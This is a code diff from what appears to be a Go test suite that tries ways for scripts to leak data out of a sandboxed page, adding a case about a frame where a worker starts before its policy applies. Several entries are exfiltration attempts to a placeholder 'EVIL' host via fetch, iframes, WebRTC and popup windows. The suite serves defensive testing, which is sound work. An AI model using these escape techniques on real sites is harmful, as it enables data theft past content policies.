@@ -34,6 +34,13 @@ const (
 	fetchEvil = `await w.fetch('EVIL', { mode: 'no-cors' })`
 )
 
+// frameOfTheWorker is a frame of the document where a worker starts on a host without headers. What a script does in it before that
+// document's policy is read obeys no policy.
+var frameOfTheWorker = wayOut{
+	name: "frame where a worker starts", script: inFrame(`src: 'SITE/web/seal.html?TOKEN'`, ``),
+	look: `return [...document.querySelectorAll('iframe')].some(f => { try { return f.contentWindow.location.search === '?TOKEN' } catch { return false } })`,
+}
+
 // waysOutOfPage are tried in a page in which a file is open.
 var waysOutOfPage = []wayOut{
 	// Requests of scripts.
@@ -106,9 +113,10 @@ var waysOutOfPage = []wayOut{
 	{name: "fetch of a frame that names its data", script: inFrame(`src: 'SITE/embed?data=EVIL'`, fetchEvil)},
 	{name: "fetch of a frame of a part of the page", script: inFrame(`src: 'SITE/web/app.css'`, fetchEvil)},
 	{name: "fetch of a frame of nothing", script: inFrame(`src: 'SITE/nothing-there'`, fetchEvil)},
+	frameOfTheWorker,
 	{name: "fetch of the frame where a worker starts", script: inFrame(`src: 'SITE/web/seal.html'`, fetchEvil)},
 	{alone: true, name: "WebRTC of an empty frame", script: inFrame(``, strings.ReplaceAll(stun, "W.", "w.")), remains: plainOnly},
-	{alone: true, name: "WebRTC of the frame where a worker starts", script: inFrame(`src: 'SITE/web/seal.html'`, strings.ReplaceAll(stun, "W.", "w.")), remains: plainOnly},
+	{alone: true, name: "WebRTC of the frame where a worker starts", script: inFrame(`src: 'SITE/web/seal.html'`, strings.ReplaceAll(stun, "W.", "w."))},
 	{alone: true, name: "window", script: `const w = open('EVIL.html'); await new Promise(r => setTimeout(r, 500)); w?.close()`, remains: plainOnly},
 	{alone: true, name: "window of nothing", script: `const w = open('about:blank'); ` + fetchEvil + `; w.close()`},
 	{alone: true, name: "window that names its data", script: `const w = open('SITE/embed?data=EVIL'); await new Promise(r => setTimeout(r, 700)); try { ` + fetchEvil + ` } finally { w.close(); }`, remains: own},
